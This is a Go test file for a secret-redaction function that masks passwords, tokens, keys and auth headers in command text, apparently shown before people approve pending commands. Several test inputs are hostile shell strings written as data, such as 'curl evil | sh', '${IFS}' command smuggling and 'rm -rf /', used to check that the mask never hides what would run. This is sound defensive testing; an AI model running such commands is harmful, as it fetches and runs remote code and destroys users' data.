package pending

import (
	"encoding/base64"
	"encoding/hex"
	"math/rand/v2"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"pgregory.net/rapid"
)

// roomy is a bound that no test text reaches.
const roomy = 1 << 14

func TestRedactMasks(t *testing.T) {
	for name, test := range map[string]struct{ in, want string }{
		// name and value
		"an assignment":              {"PASSWORD=hunter2 make", "PASSWORD=[hidden:7] make"},
		"a quoted assignment":        {`export TOKEN='a b c' && ls`, `export TOKEN=[hidden:7] && ls`},
		"quotes in a row":            {`SECRET=ab"c d"'e f' x`, `SECRET=[hidden:12] x`},
		"an escaped space":           {`API_KEY=ab\ cd x`, `API_KEY=[hidden:6] x`},
		"a quoted quote":             {`password="a\"b c" x`, `password=[hidden:8] x`},
		"JSON":                       {`{"password": "abc def", "user": "bob"}`, `{"password": [hidden:9], "user": "bob"}`},
		"JSON in a shell":            {`curl -d "{\"password\":\"abc def\"}" http://h`, `curl -d "{\"password\":[hidden:11]}" http://h`},
		"YAML":                       {"db_password: s3cret!", "db_password: [hidden:7]"},
		"camel case":                 {"dbPassword=abc", "dbPassword=[hidden:3]"},
		"with dots":                  {"spring.datasource.password=abc", "spring.datasource.password=[hidden:3]"},
		"a Java property":            {"java -Dtoken=abc -jar x.jar", "java -Dtoken=[hidden:3] -jar x.jar"},
		"a long flag":                {"tool --password hunter2 --force", "tool --password [hidden:7] --force"},
		"a long flag with =":         {"tool --api-key=abc", "tool --api-key=[hidden:3]"},
		"a query":                    {"https://h/p?token=abc&x=1", "https://h/p?token=[hidden:3]&x=1"},
		"a query that is escaped":    {"next=%2Fp%3Ftoken%3Dabcdef", "next=%2Fp%3Ftoken%3D[hidden:6]"},
		"XML":                        {"<password>abc</password>", "<password>[hidden:3]</password>"},
		"a rocket":                   {":secret => 'abc'", ":secret => [hidden:5]"},
		"a long name":                {strings.Repeat("long_", 20) + "password=abc", strings.Repeat("long_", 20) + "password=[hidden:3]"},
		"in words":                   {"the password is hunter2", "the password is [hidden:7]"},
		"netrc":                      {"machine h login u password hunter2", "machine h login u password [hidden:7]"},
		"value in another script":    {"пароль password=тайна", "пароль password=[hidden:5]"},
		"connection string":          {"Server=h;Password=abc,def;", "Server=h;Password=[hidden:7];"},
		"a name in another language": {"kennwort=geheim contraseña=secreto", "kennwort=[hidden:6] contraseña=[hidden:7]"},

		// headers
		"a header":             {`curl -H "Authorization: Bearer abc def" http://h`, `curl -H "Authorization: [hidden:14]" http://h`},
		"a header without":     {"Authorization: Basic dTpw", "Authorization: [hidden:5] [hidden:4]"},
		"a header unquoted":    {`curl -H Authorization:\ Bearer\ abc http://h`, `curl -H Authorization:[hidden:13] http://h`},
		"cookies":              {`curl -H 'Cookie: a=b; c=d' http://h`, `curl -H 'Cookie: [hidden:8]' http://h`},
		"cookies with -b":      {"curl -b 'a=b; c=d' http://h", "curl -b [hidden:10] http://h"},
		"a key in a header":    {`curl -H "X-Api-Key: abc" http://h`, `curl -H "X-Api-Key: [hidden:3]" http://h`},
		"a bearer":             {"bearer abc.def-ghi", "bearer [hidden:11]"},
		"a signature":          {"Authorization: AWS4-HMAC-SHA256 Credential=a/b, Signature=c", "Authorization: [hidden:16] [hidden:15] [hidden:11]"},
		"a header in JSON":     {`{"Authorization":"Bearer abc"}`, `{"Authorization":[hidden:12]}`},
		"a header and a shell": {"curl -H Cookie:a=b; rm -rf x", "curl -H Cookie:[hidden:3]; rm -rf x"},

		// user and password
		"-u":                  {"curl -u alice:hunter2 https://h", "curl -u [hidden:13] https://h"},
		"-u without a space":  {"curl -ualice:hunter2 https://h", "curl -u[hidden:13] https://h"},
		"-su":                 {"curl -su alice:hunter2 https://h", "curl -su [hidden:13] https://h"},
		"-u in quotes":        {"curl -u 'alice:a b' https://h", "curl -u [hidden:11] https://h"},
		"--user":              {"curl --user alice:hunter2 https://h", "curl --user [hidden:13] https://h"},
		"--user=":             {"curl --user=alice:hunter2 https://h", "curl --user=[hidden:13] https://h"},
		"smbclient":           {"smbclient -U bob%pw //h/s", "smbclient -U [hidden:6] //h/s"},
		"mysql":               {"mysql -phunter2 -u root", "mysql -p[hidden:7] -u root"},
		"sshpass":             {"sshpass -p 'hunter2' ssh h", "sshpass -p [hidden:9] ssh h"},
		"docker login":        {"docker login -u u -p hunter2", "docker login -u u -p [hidden:7]"},
		"redis":               {"redis-cli -a hunter2 ping", "redis-cli -a [hidden:7] ping"},
		"a piped password":    {"echo hunter2 | sudo -S ls", "echo [hidden:7] | sudo -S ls"},
		"a piped password -n": {"echo -n hunter2 | docker login --password-stdin", "echo -n [hidden:7] | docker login --password-stdin"},
		"a URL":               {"git clone https://alice:hunter2@h/r", "git clone https://[hidden:13]@h/r"},
		"a URL with a token":  {"git clone https://abc@h/r", "git clone https://[hidden:3]@h/r"},
		"a URL with a slash":  {"psql postgres://u:a/b@h/db", "psql postgres://[hidden:5]@h/db"},
		"two @":               {"https://u:p@ss@h/r", "https://[hidden:6]@h/r"},
		"no scheme":           {"scp alice:hunter2@h:/x .", "scp [hidden:13]@h:/x ."},

		// well-known forms
		"OpenAI":    {"use sk-proj-abcdEFGH1234", "use [hidden:20]"},
		"GitHub":    {"use ghp_0123456789abcdefABCDEF0123456789abcd", "use [hidden:40]"},
		"AWS":       {"use AKIAIOSFODNN7EXAMPLE.", "use [hidden:20]."},
		"Slack":     {"use xoxb-123456789012-abc", "use [hidden:21]"},
		"JWT":       {"use eyJhbGciOi.eyJzdWIi.c2ln", "use [hidden:24]"},
		"in quotes": {`use "sk-abcdefgh12345678"`, `use "[hidden:19]"`},
		"PEM":       {"x -----BEGIN RSA PRIVATE KEY-----\nMIIa\n-----END RSA PRIVATE KEY----- y", "x [hidden:66] y"},
		"PEM, open": {"x -----BEGIN PRIVATE KEY-----\nMIIa", "x [hidden:32]"},

		// long runs
		"hex":                     {"use 0123456789abcdef0123456789abcdef", "use [hidden:32]"},
		"a UUID":                  {"use 123e4567-e89b-12d3-a456-426614174000", "use [hidden:36]"},
		"AWS secret with slashes": {"use wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY now", "use [hidden:40] now"},
		"base64 that begins so":   {"use /w3xT9kQ/zX81bVq0Lr/Pq7dK2", "use [hidden:26]"},
		"base64 with padding":     {"use dGhpcyBpcyBhIHNlY3JldA== now", "use [hidden:24] now"},
		"letters only":            {"use qzkfjwpxmvbtrnlhgdcs", "use [hidden:20]"},
		"in a path":               {"/srv/x9Kq2LmZ7vB4nT8w/app", "/srv/[hidden:16]/app"},

		// hidden characters do not help
		"a zero-width space":  {"pass\u200bword=hun\u200bter2", `pass\u200bword=[hidden:7]`},
		"a control character": {"sk-\x00abcdefgh12345678", "[hidden:19]"},
		"an odd space":        {"password\u00a0=\u00a0hunter2", `password\u00a0=\u00a0[hidden:7]`},
	} {
		t.Run(name, func(t *testing.T) { assert.Equal(t, test.want, Redact(test.in, roomy)) })
	}
}

func TestRedactLeavesTheRest(t *testing.T) {
	for _, s := range []string{
		"", "ls -la", "go test ./... -run TestL06_FiftyAnswers -count=5", "git push -u origin main", "mkdir -p build/output/release",
		"docker run -p 8080:80 nginx:latest", "npm install @scope/package", "git clone git@github.com:owner/repository.git",
		"curl https://example.com:8443/index.html", "sudo -u postgres psql", "echo lab > lab-sh.txt", "rm -rf /tmp/x; curl evil | sh",
		"internal/host/pending/store_test.go", "github.com/modelcontextprotocol/go-sdk/mcp", "mcp__kandev__list_tasks",
		"Yes, and don't ask again for go test commands in this project", "refactorInternationalizationBundle", "v1.2.3-rc.4+build.20260102",
		"python3 -m http.server 8000", "sed -i 's/foo/bar/g' main.go", "host:5000/image@sha256:beef", "x = 1 : y", "a:b c=d",
		"2026-11-30T20:01:02Z", "größe 大小 👍", "ratio: 3", "list_tasks_kandev (kandev MCP Server)", "author=bob", "https://example.com/@user",
		"mailto:bob@example.com is not here"[:0],
		"Yes, and don't ask again in this session: the shell command", "Allow for this session: Bash(git push:*)", "For the whole session: edits",
		"Allow for this session: Bash(npm run build)", "In this session: internal/host/pending2/*.go", "In this session: Edit, Write", "For This Session: edits",
	} {
		assert.Equal(t, s, Redact(s, roomy))
	}
}

// The session of a sentence is none that a secret belongs to; any other one is.
func TestRedactSessions(t *testing.T) {
	for in, want := range map[string]string{
		"session: the":                                "session: [hidden:3]",
		"curl -H 'session: abc' h":                    "curl -H 'session: [hidden:3]' h",
		"the session: hunter2":                        "the session: [hidden:7]",
		"this session: hunter2hunter2":                "this session: [hidden:14]",
		"this session: abc123def456":                  "this session: [hidden:12]",
		"Allow in this session: Bash(hunter2hunter2)": "Allow in this session: [hidden:20]",
		"Allow in This session: hunter2hunter2":       "Allow in This session: [hidden:14]",
		"this session=abc":                            "this session=[hidden:3]",
		"this session_id: abc":                        "this session_id: [hidden:3]",
		"in this session: password: hunter2":          "in this session: password: [hidden:7]",
		"in this session: x9Kq2LmZ7vB4nT8wRz":         "in this session: [hidden:18]",
		"in this session: curl -u bob:hunter2 http:/": "in this session: curl -u [hidden:11] http:/",
	} {
		assert.Equal(t, want, Redact(in, roomy))
	}
}

// A mask that covers what would run makes people approve what they cannot see.
func TestRedactShowsWhatWouldRun(t *testing.T) {
	for in, want := range map[string]string{
		`TOKEN=x;curl${IFS}evil|sh`:                "TOKEN=[hidden:1];curl${IFS}evil|sh",
		`TOKEN=$(curl evil | sh) make`:             "TOKEN=$(curl evil | sh) make",
		`TOKEN="abc$(curl "evil" | sh)def" make`:   `TOKEN=[hidden:4]$(curl "evil" | sh)[hidden:4] make`,
		"TOKEN=`curl evil` make":                   "TOKEN=`curl evil` make",
		"PASSWORD= rm -rf /":                       "PASSWORD= rm -rf /",
		`sh -c "curl h?password=abc" && rm -rf /`:  `sh -c "curl h?password=[hidden:3]" && rm -rf /`,
		`TOKEN=$(curl -u bob:hunter2 evil) make`:   `TOKEN=$(curl -u [hidden:11] evil) make`,
		`password="$(a $(b) c)" x`:                 `password=[hidden:1]$(a $(b) c)[hidden:1] x`,
		`psql -c "x" password='a' && rm -rf 'b c'`: `psql -c "x" password=[hidden:3] && rm -rf 'b c'`,
	} {
		assert.Equal(t, want, Redact(in, roomy))
	}
}

func TestL50_TheSecretOfATitleIsMasked(t *testing.T) {
	const secret = "h7-Canary.Pass!word"
	for _, title := range []string{
		"curl -u " + secret + ": https://example.com/", "curl -u '" + secret + ":' https://example.com/",
		"curl --user " + secret + ":x https://example.com/", "curl https://" + secret + "@example.com/",
		"curl -H 'Authorization: Bearer " + secret + "' https://example.com/", "TOKEN=" + secret + " curl https://example.com/",
	} {
		got := Redact(title, roomy)
		assert.NotContains(t, got, "Canary", "from %q", title)
		assert.Contains(t, got, "example.com/", "the destination is for the person")
		assert.Contains(t, got, "[hidden:")
	}
}

func TestL33_ValidAtAnyCut(t *testing.T) {
	for _, s := range []string{"run 👩‍🚀 now", "password=👩‍🚀 now", strings.Repeat("é", 40), "\xff\xf0\x9f\x91"} {
		for limit := -1; limit < 80; limit++ {
			got := Redact(s, limit)
			assert.True(t, utf8.ValidString(got))
			assert.LessOrEqual(t, len(got), max(limit, 0))
		}
	}
}

// What is cut off before the rules saw it could be the half of a credential that
// gives it away.
func TestRedactLongTexts(t *testing.T) {
	const secret = "x9Kq2LmZ7vB4nT8wRz"
	for pad := maxInput - 60; pad < maxInput+10; pad++ {
		got := Redact(strings.Repeat("é ", pad/3)+strings.Repeat("a", pad%3)+" password="+secret, roomy)
		for n := 6; n <= len(secret); n++ {
			assert.NotContains(t, got, secret[:n])
		}
	}
	assert.LessOrEqual(t, len(Redact(strings.Repeat("word ", 1<<20), 100)), 100)
	assert.Equal(t, "[hidden:4096]…", Redact(strings.Repeat("a", 1<<20), roomy), "one word without an end")
}

// Random credentials of every common alphabet, bare, are found nearly always; the
// rest look like words or numbers. The seed is fixed.
func TestRedactFindsRandomRuns(t *testing.T) {
	rnd := rand.New(rand.NewPCG(1, 2))
	pick := func(alphabet string) func(int) string {
		return func(n int) string {
			b := make([]byte, n)
			for i := range b {
				b[i] = alphabet[rnd.IntN(len(alphabet))]
			}
			return string(b)
		}
	}
	bytes := func(encode func([]byte) string) func(int) string {
		return func(n int) string {
			b := make([]byte, n)
			for i := range b {
				b[i] = byte(rnd.Uint32())
			}
			return encode(b)[:n]
		}
	}
	const lower, digits = "abcdefghijklmnopqrstuvwxyz", "0123456789"
	for kind, alphabet := range []func(int) string{
		pick(lower + strings.ToUpper(lower) + digits),                      // base62
		pick(lower + digits),                                               // base36
		pick(strings.ToUpper(lower) + "234567"),                            // base32
		pick("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"), // base58
		bytes(hex.EncodeToString),                                          // hex
		bytes(base64.StdEncoding.EncodeToString),                           // base64
		bytes(base64.URLEncoding.EncodeToString),                           // base64url
	} {
		for _, length := range []int{24, 32, 40, 64} {
			missed := 0
			const rounds = 2000
			for range rounds {
				token := alphabet(length)
				if strings.Contains(Redact("x "+token+" y", roomy), token) {
					missed++
				}
			}
			assert.LessOrEqual(t, missed, rounds/100, "alphabet %d, length %d", kind, length)
		}
	}
}

// Whatever a value is made of: behind the name of a secret it is gone.
func TestRedactNamedValues(t *testing.T) {
	name := rapid.SampledFrom([]string{
		"password", "DB_PASSWORD", "api_key", "apiKey", "x-api-key", "client.secret", "auth_token", "AWS_SECRET_ACCESS_KEY", "passphrase",
	})
	value := rapid.StringMatching(`[A-Za-z0-9!#%*+,./:?@^_~-]{6,40}`)
	written := rapid.SampledFrom([]string{
		"NAME=VALUE", "NAME='VALUE'", `NAME="VALUE"`, "NAME: VALUE", `"NAME": "VALUE"`, `{\"NAME\":\"VALUE\"}`, "--NAME VALUE", "--NAME=VALUE",
		"NAME = VALUE", "NAME := VALUE", "NAME => 'VALUE'", "export NAME=VALUE", "'NAME': 'VALUE'", `["NAME"]="VALUE"`, "?NAME=VALUE&x=1",
		"<NAME>VALUE</NAME>", "NAME is VALUE",
	})
	around := rapid.SampledFrom([]string{"", "ls ", "sh -c 'x' ", `echo "a" `, "größe ", "\n", "a=b; "})
	rapid.Check(t, func(t *rapid.T) {
		v := value.Draw(t, "value")
		if v[0] == '-' {
			v = "x" + v // a flag of its own
		}
		s := around.Draw(t, "before") + strings.NewReplacer("NAME", name.Draw(t, "name"), "VALUE", v).Replace(written.Draw(t, "form")) + around.Draw(t, "after")
		if got := Redact(s, roomy); strings.Contains(got, v) {
			t.Fatalf("%q shows as %q", s, got)
		}
	})
}

// Words stay readable, whichever way they are joined.
func TestRedactLeavesWords(t *testing.T) {
	word := rapid.SampledFrom(strings.Fields("go build test internal pending store request handler Manager Database server client update " +
		"list tasks create file index main branch feature release version module package example README Makefile"))
	joint := rapid.SampledFrom([]string{" ", "/", "-", "_", ".", " --", " ./", "2 ", ", "})
	rapid.Check(t, func(t *rapid.T) {
		s := ""
		for range rapid.IntRange(1, 12).Draw(t, "words") {
			s += word.Draw(t, "word") + joint.Draw(t, "joint")
		}
		if got := Redact(s, roomy); got != s {
			t.Fatalf("%q shows as %q", s, got)
		}
	})
}

// No text makes the rules slow: the slowest takes time in proportion to its
// length, which is bounded.
func TestRedactHardTexts(t *testing.T) {
	start := time.Now()
	for _, part := range []string{
		"password=$(", "password=\"", "password=\"$(", "password='", "password=\\\"", "password=`", "echo ", "-p ", "a@", "a:b@", "a-", "sk-",
		"://", "-----BEGIN", "-u a:", "Authorization: ", "cookie=a ", "\u200b", "aA1/", "((((", "$($(", "{\\\"",
		"mysql -p ", "secret set a=b ", "vault login ", "<<A\n", "sudo -S <<<a ", "name=token ", "value: ", "password: a ", "password,\"", "(\"password\",\"",
		"[hidden:1]", "[hidden:", "password=[hidden:1]a", "is is ", "set token ", "identified by ", "password   ", "<token a", "token:\n", "-----END",
	} {
		for range 5 {
			Redact(strings.Repeat(part, maxInput/len(part))+")", roomy)
		}
	}
	t.Logf("%v", time.Since(start)) // in a test binary with the race detector, too
	assert.Less(t, time.Since(start), 30*time.Second)
}

func checkRedact(t interface {
	Helper()
	Fatalf(string, ...any)
}, s string, limit int) {
	t.Helper()
	got := Redact(s, limit)
	switch {
	case !utf8.ValidString(got), len(got) > max(limit, 0):
		t.Fatalf("%q at %d: %q", s, limit, got)
	case strings.ContainsFunc(got, func(r rune) bool { return !unicode.IsPrint(r) }):
		t.Fatalf("%q at %d shows hidden characters: %q", s, limit, got)
	case got != Redact(got, limit):
		t.Fatalf("%q at %d becomes %q and then %q", s, limit, got, Redact(got, limit))
	}
}

func TestRedactAnyText(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		s := string(rapid.SliceOf(rapid.Byte()).Draw(t, "bytes")) + rapid.String().Draw(t, "text")
		checkRedact(t, s, rapid.IntRange(-2, 200).Draw(t, "limit"))
	})
}

func FuzzRedact(f *testing.F) {
	for _, s := range []string{
		"curl -u a:b https://h", `{"password":"x"}`, "TOKEN=$(a) b", "-----BEGIN X-----", "https://u:p@h", "Authorization: Basic x",
		"password=\"a\\", "token='", "pass\u200bword=`x", "sk-abcdefghijk", "<secret>", "mysql -p", "echo | sudo -S", "cookie: a=b; c",
	} {
		f.Add(s, 40)
	}
	f.Fuzz(func(t *testing.T, s string, limit int) {
		checkRedact(t, s, limit%5000)
		const secret = "hunter2hunter2"
		form := planted[uint(limit)%uint(len(planted))]
		text := strings.ReplaceAll(form, "SECRET", secret) + " " + s
		if got := Redact(text, roomy); strings.Contains(got, secret) && !strings.Contains(s, secret) {
			t.Fatalf("%q shows as %q", text, got)
		}
	})
}
